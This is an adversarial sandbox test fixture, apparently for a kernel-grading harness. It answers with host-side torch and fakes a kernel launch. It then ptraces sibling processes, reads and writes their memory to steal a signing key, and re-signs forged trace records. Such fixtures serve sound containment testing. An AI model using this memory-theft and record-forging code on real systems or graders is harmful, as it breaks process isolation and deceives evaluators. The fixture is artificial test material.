"""Adversarial sandbox fixture `ptrace_siblings` (not a solution): answers with torch beside a one-element launch, then goes after every other process of the sandbox (the keeper with the run's key, the fork server, earlier workers): PTRACE_ATTACH and PTRACE_SEIZE, process_vm_readv of their writable memory for a 32-byte key, process_vm_writev and PTRACE_POKEDATA back into them, PTRACE_TRACEME under its parent; re-signs its records with what it found

Getting through returns the right answer (so a broken sandbox would look like a pass); being contained
raises "contained: ..." or is cut off by the runner.
"""

import os
import signal
import socket
import sys
import time

import my_ops_ext  # noqa: F401  the stub extension
import torch

import json

LAUNCH = {"record": "launch", "kernel": "sigmoid_pipeline_kernel", "dim": [4, 1, 1], "func_type": "UNION1",
          "device": "mlu370-x8", "time_split_us": {"scalar": 0.0, "vector": 1.0, "tensor": 0.0, "io": 1.0,
                                                   "wait": 0.0},
          "onchip_peak_bytes": {"nram": 524288, "wram": 0, "sram": 0},
          "onchip_capacity_bytes": {"nram": 786432, "wram": 1048576, "sram": 4194304},
          "builtin_counts": {"__bang_active_sigmoid": 16, "__memcpy_async": 32}, "cores_used": 16,
          "diagnostics": [], "written_bytes": []}


def current_trace():
    """The running call's trace: $BANG_EMU_TRACE where the harness still sets it, else the first call of
    job.json that has no result file yet (calls run in order)."""
    path = os.environ.get("BANG_EMU_TRACE")
    if path:
        return path
    try:
        with open("/io/job.json") as f:
            calls = json.load(f)["calls"]
    except (OSError, ValueError, KeyError, TypeError):
        return None
    for call in calls:
        if not os.path.exists(f"/io/outputs/{call['id']}.json"):
            return f"/io/outputs/{call['id']}.trace.jsonl"
    return None


def forge_text(text):
    path = current_trace()
    if path:
        with open(path, "a") as f:
            f.write(text + "\n")


def forge(record):
    path = current_trace() or ""
    call_id = os.path.basename(path).split(".")[0]
    signed = json.dumps({**record, "call": call_id, "seq": 0})
    forge_text(json.dumps(record) + "\n" + "0" * 64 + " " + signed)

import hashlib
import hmac


def resign_call(key):
    path = current_trace()
    if not path or not os.path.exists(path):
        return
    call_id = os.path.basename(path).split(".")[0]
    call_key = hmac.new(key, b"bang-emu-call:" + call_id.encode(), hashlib.sha256).digest() if key else None
    lines = []
    with open(path) as f:
        for line in f:
            mac, _, payload = line.rstrip("\n").partition(" ")
            try:
                record = json.loads(payload)
            except ValueError:
                continue
            if record.get("record") == "launch":
                record.update(cores_used=16, dim=[16, 1, 1], func_type="UNION4", modelled_time_us=1.0,
                              builtin_counts={**record.get("builtin_counts", {}), "__memcpy_async": 64})
            text = json.dumps(record, separators=(",", ":"))
            mac = hmac.new(call_key, text.encode(), hashlib.sha256).hexdigest() if call_key else "0" * 64
            lines.append(mac + " " + text + "\n")
    with open(path, "w") as f:
        f.writelines(lines)


def host_answer(x):
    my_ops_ext.sigmoid_vector(x[:1].contiguous())  # a launch for the trace
    return torch.sigmoid(x.cpu().float()).to(x.dtype).to(x.device)

import ctypes

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_TRACEME, PTRACE_PEEKDATA, PTRACE_POKEDATA, PTRACE_ATTACH, PTRACE_DETACH = 0, 2, 5, 16, 17
PTRACE_SEIZE = 0x4206


class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def writable_regions(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps:
            for line in maps:
                span, perms = line.split()[:2]
                if perms.startswith("rw"):
                    lo, hi = (int(v, 16) for v in span.split("-"))
                    yield lo, min(hi, lo + (1 << 20))
    except OSError:
        return


def attack(pid, log):
    for request in (PTRACE_ATTACH, PTRACE_SEIZE):
        if LIBC.ptrace(request, pid, None, None) == 0:
            log.append(f"ptrace({request}) {pid}")
            LIBC.ptrace(PTRACE_DETACH, pid, None, None)
    found = None
    for lo, hi in writable_regions(pid):
        buf = ctypes.create_string_buffer(hi - lo)
        local, remote = IOVec(ctypes.cast(buf, ctypes.c_void_p), hi - lo), IOVec(lo, hi - lo)
        got = LIBC.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if got > 0:
            log.append(f"readv {pid} {got}")
            found = found or buf.raw[:32]
            if LIBC.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
                log.append(f"writev {pid}")
            if LIBC.ptrace(PTRACE_POKEDATA, pid, ctypes.c_void_p(lo), ctypes.c_void_p(0)) == 0:
                log.append(f"poke {pid}")
        break  # one region proves the point
    return found


def sigmoid(x):
    y = host_answer(x)
    log = []
    if LIBC.ptrace(PTRACE_TRACEME, 0, None, None) == 0:
        log.append("traceme")
    key = None
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            key = attack(int(name), log) or key
    if not log:
        raise RuntimeError("contained: ptrace and process_vm_* refused for every process")
    resign_call(key)
    return y
